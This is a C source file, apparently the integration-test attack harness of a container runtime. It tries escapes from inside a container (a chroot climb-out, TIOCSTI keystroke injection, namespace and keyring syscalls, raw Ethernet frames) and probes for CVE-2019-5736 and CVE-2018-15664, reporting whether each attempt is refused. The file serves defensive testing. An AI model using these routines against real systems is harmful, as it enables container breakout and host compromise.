/*
 * attack: what a hostile process inside a container tries, one subcommand per boundary.
 *
 * Built static by the integration tests (tests/integration/conftest.py) and copied into a
 * test image, so it runs inside busybox containers. Each subcommand prints one line that
 * names the outcome ("ok ..." when the attack worked, "refused ..." with the errno name
 * when the kernel said no) and exits 0 either way: the tests decide what is safe.
 *
 *   attack chroot-escape PATH          mkdir+chroot into a subdirectory, climb out with "..",
 *                                      then test whether PATH (a host-only file) is visible
 *   attack tiocsti FD TEXT             type TEXT into the terminal on FD (TIOCSTI); "\n" is Enter
 *   attack syscalls                    unshare(CLONE_NEWUSER), clone(CLONE_NEWNS), keyctl,
 *                                      add_key, perf_event_open, io_uring_setup
 *   attack udp-frame IFACE DSTMAC DSTIP PORT TEXT
 *                                      send TEXT in a UDP datagram to DSTIP:PORT inside a raw
 *                                      Ethernet frame to DSTMAC (CAP_NET_RAW), then wait 2 s
 *                                      for any reply frame that carries TEXT back
 *   attack open PATH                   open PATH for reading and read up to 64 bytes
 *   attack exe-watch SECONDS DEV:INO...
 *                                      CVE-2019-5736: for SECONDS (or until /stop exists), open
 *                                      /proc/PID/exe of every
 *                                      other process (O_PATH, as the exploit does) whose file is
 *                                      not on the container's root; count those that are one of
 *                                      the host files DEV:INO; at the end, try each file kept for
 *                                      writing through /proc/self/fd (opened, never written): one
 *                                      that opens and is not sealed against writes is writable
 *   attack swap-dirs DIR TARGET SECONDS
 *                                      CVE-2018-15664: for SECONDS (or until /stop exists), as
 *                                      soon as a directory DIR/NAME holds a file `f` (cp is copying
 *                                      its content; its mode comes next), rename it away and put a
 *                                      symlink to TARGET in its place; print how many swaps
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int outcome(const char *what, long ret) {
    if (ret < 0)
        printf("refused %s %s\n", what, strerrorname_np(errno));
    else
        printf("ok %s\n", what);
    return 0;
}

static int chroot_escape(const char *marker) {
    mkdir("/.escape", 0700);
    if (chroot("/.escape") != 0) return outcome("chroot", -1);
    for (int i = 0; i < 64; i++) {
        if (chdir("..") != 0) break;
    }
    if (chroot(".") != 0) return outcome("chroot-out", -1);
    struct stat st;
    if (stat(marker, &st) == 0)
        printf("ok escaped: %s is visible\n", marker);
    else
        printf("refused escape %s\n", strerrorname_np(errno));
    return 0;
}

static int tiocsti(int fd, const char *text) {
    for (const char *p = text; *p; p++) {
        char c = *p;
        if (c == '\\' && p[1] == 'n') { c = '\n'; p++; }  /* "\n" in TEXT types Enter */
        if (ioctl(fd, TIOCSTI, &c) != 0) return outcome("tiocsti", -1);
    }
    return outcome("tiocsti", 0);
}

static int child_fn(void *arg) {
    (void)arg;
    return 0;
}

static int syscalls(void) {
    outcome("unshare-user", syscall(SYS_unshare, CLONE_NEWUSER));
    static char stack[16384];
    int pid = clone(child_fn, stack + sizeof stack, CLONE_NEWNS | SIGCHLD, NULL);
    if (pid > 0) waitpid(pid, NULL, 0);
    outcome("clone-newns", pid);
    outcome("keyctl", syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 1));
    outcome("add_key", syscall(SYS_add_key, "user", "minibox-test", "x", 1, -3));
    char attr[128] = {0};
    *(unsigned *)attr = 1;               /* type: PERF_TYPE_SOFTWARE */
    *(unsigned *)(attr + 4) = 128;       /* size */
    outcome("perf_event_open", syscall(SYS_perf_event_open, attr, 0, -1, -1, 0));
    char params[120] = {0};
    outcome("io_uring_setup", syscall(SYS_io_uring_setup, 4, params));
    return 0;
}

static unsigned short csum(const void *data, size_t len) {
    const unsigned short *p = data;
    unsigned long sum = 0;
    for (; len > 1; len -= 2) sum += *p++;
    if (len) sum += *(const unsigned char *)p;
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (unsigned short)~sum;
}

static int udp_frame(const char *ifname, const char *mac, const char *dst, int port, const char *text) {
    int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
    if (s < 0) return outcome("packet-socket", -1);
    struct ifreq ifr = {0};
    snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", ifname);
    if (ioctl(s, SIOCGIFHWADDR, &ifr) != 0) return outcome("hwaddr", -1);
    unsigned char src_mac[6];
    memcpy(src_mac, ifr.ifr_hwaddr.sa_data, 6);
    if (ioctl(s, SIOCGIFADDR, &ifr) != 0) return outcome("ifaddr", -1);
    struct in_addr src_ip = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr;
    int ifindex = (int)if_nametoindex(ifname);

    unsigned char frame[1500] = {0};
    struct ether_header *eth = (struct ether_header *)frame;
    sscanf(mac, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &eth->ether_dhost[0], &eth->ether_dhost[1],
           &eth->ether_dhost[2], &eth->ether_dhost[3], &eth->ether_dhost[4], &eth->ether_dhost[5]);
    memcpy(eth->ether_shost, src_mac, 6);
    eth->ether_type = htons(ETH_P_IP);
    struct iphdr *ip = (struct iphdr *)(frame + sizeof *eth);
    struct udphdr *udp = (struct udphdr *)((unsigned char *)ip + sizeof *ip);
    size_t n = strlen(text);
    memcpy((unsigned char *)udp + sizeof *udp, text, n);
    ip->ihl = 5;
    ip->version = 4;
    ip->ttl = 64;
    ip->protocol = IPPROTO_UDP;
    ip->saddr = src_ip.s_addr;
    inet_pton(AF_INET, dst, &ip->daddr);
    ip->tot_len = htons((unsigned short)(sizeof *ip + sizeof *udp + n));
    ip->check = csum(ip, sizeof *ip);
    udp->source = htons(40000);
    udp->dest = htons((unsigned short)port);
    udp->len = htons((unsigned short)(sizeof *udp + n));
    udp->check = 0; /* optional over IPv4 */

    struct sockaddr_ll to = {0};
    to.sll_family = AF_PACKET;
    to.sll_ifindex = ifindex;
    to.sll_halen = 6;
    memcpy(to.sll_addr, eth->ether_dhost, 6);
    size_t len = sizeof *eth + sizeof *ip + sizeof *udp + n;
    if (sendto(s, frame, len, 0, (struct sockaddr *)&to, sizeof to) < 0) return outcome("send", -1);
    printf("sent %zu bytes to %s:%d via %s\n", n, dst, port, mac);

    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    for (;;) {
        clock_gettime(CLOCK_MONOTONIC, &now);
        long left = 2000 - ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000);
        if (left <= 0) break;
        struct pollfd p = {s, POLLIN, 0};
        if (poll(&p, 1, (int)left) <= 0) break;
        unsigned char buf[2048];
        ssize_t r = recv(s, buf, sizeof buf, 0);
        if (r > 0 && memmem(buf + sizeof *eth, (size_t)r - sizeof *eth, text, n) &&
            ((struct iphdr *)(buf + sizeof *eth))->saddr != src_ip.s_addr) {
            char from[32];
            inet_ntop(AF_INET, &((struct iphdr *)(buf + sizeof *eth))->saddr, from, sizeof from);
            printf("ok reply from %s\n", from);
            return 0;
        }
    }
    printf("refused reply ETIMEDOUT\n");
    return 0;
}

static int open_read(const char *path) {
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    if (fd < 0) return outcome("open", -1);
    char buf[64];
    ssize_t r = read(fd, buf, sizeof buf);
    if (r < 0 && errno != EAGAIN) return outcome("read", -1);
    printf("ok read %zd bytes\n", r < 0 ? 0 : r);
    return 0;
}

static int exe_watch(int seconds, int nfiles, char **files) {
    struct stat own;
    if (stat("/bin/busybox", &own) != 0) return outcome("stat-own", -1);
    unsigned long want_dev[16], want_ino[16];
    int nwant = 0;
    for (int i = 0; i < nfiles && nwant < 16; i++)
        if (sscanf(files[i], "%lu:%lu", &want_dev[nwant], &want_ino[nwant]) == 2) nwant++;
    int kept[64], nkept = 0;
    long host_opened = 0, scans = 0;
    char self[32];
    snprintf(self, sizeof self, "%d", getpid());
    time_t end = time(NULL) + seconds;
    while (time(NULL) < end && access("/stop", F_OK) != 0) {
        DIR *d = opendir("/proc");
        if (!d) return outcome("opendir", -1);
        struct dirent *e;
        while ((e = readdir(d))) {
            if (e->d_name[0] < '0' || e->d_name[0] > '9' || strcmp(e->d_name, self) == 0) continue;
            char path[300];
            snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
            int fd = open(path, O_PATH);
            if (fd < 0) continue;
            struct stat st;
            if (fstat(fd, &st) != 0 || st.st_dev == own.st_dev) { close(fd); continue; }
            int host = 0;
            for (int i = 0; i < nwant; i++)
                if (st.st_dev == want_dev[i] && st.st_ino == want_ino[i]) host = 1;
            host_opened += host;
            int seen = 0;
            for (int i = 0; i < nkept; i++) {
                struct stat k;
                if (fstat(kept[i], &k) == 0 && k.st_dev == st.st_dev && k.st_ino == st.st_ino) seen = 1;
            }
            if (!seen && nkept < 64) kept[nkept++] = fd; else close(fd);
        }
        closedir(d);
        scans++;
    }
    long writable = 0;
    for (int i = 0; i < nkept; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
        for (int tries = 0; tries < 50; tries++) {  /* ETXTBSY while it still runs somewhere */
            int w = open(path, O_WRONLY);
            if (w >= 0) {  /* a memfd opens for writing, but its F_SEAL_WRITE refuses every write */
                int seals = fcntl(w, F_GET_SEALS);
                if (seals < 0 || !(seals & F_SEAL_WRITE)) writable++;
                close(w);
                break;
            }
            if (errno != ETXTBSY) break;
            usleep(20000);
        }
    }
    printf("scans %ld kept %d host-exe-opened %ld foreign-exe-writable %ld\n", scans, nkept, host_opened, writable);
    return 0;
}

static int swap_dirs(const char *dir, const char *target, int seconds) {
    long swaps = 0;
    time_t end = time(NULL) + seconds;
    while (time(NULL) < end && access("/stop", F_OK) != 0) {
        DIR *d = opendir(dir);
        if (!d) continue;
        struct dirent *e;
        while ((e = readdir(d))) {
            if (e->d_name[0] == '.' || strchr(e->d_name, '.')) continue;
            char path[600], file[700], away[700];
            snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
            snprintf(file, sizeof file, "%s/f", path);
            struct stat st;
            if (lstat(path, &st) != 0 || !S_ISDIR(st.st_mode) || lstat(file, &st) != 0) continue;
            snprintf(away, sizeof away, "%s.x", path);
            if (rename(path, away) == 0 && symlink(target, path) == 0) swaps++;
        }
        closedir(d);
    }
    printf("swaps %ld\n", swaps);
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc >= 3 && strcmp(argv[1], "chroot-escape") == 0) return chroot_escape(argv[2]);
    if (argc >= 4 && strcmp(argv[1], "tiocsti") == 0) return tiocsti(atoi(argv[2]), argv[3]);
    if (argc >= 2 && strcmp(argv[1], "syscalls") == 0) return syscalls();
    if (argc >= 7 && strcmp(argv[1], "udp-frame") == 0)
        return udp_frame(argv[2], argv[3], argv[4], atoi(argv[5]), argv[6]);
    if (argc >= 3 && strcmp(argv[1], "open") == 0) return open_read(argv[2]);
    if (argc >= 5 && strcmp(argv[1], "swap-dirs") == 0) return swap_dirs(argv[2], argv[3], atoi(argv[4]));
    if (argc >= 3 && strcmp(argv[1], "exe-watch") == 0) return exe_watch(atoi(argv[2]), argc - 3, argv + 3);
    fprintf(stderr, "usage: see the comment at the top of attack.c\n");
    return 2;
}
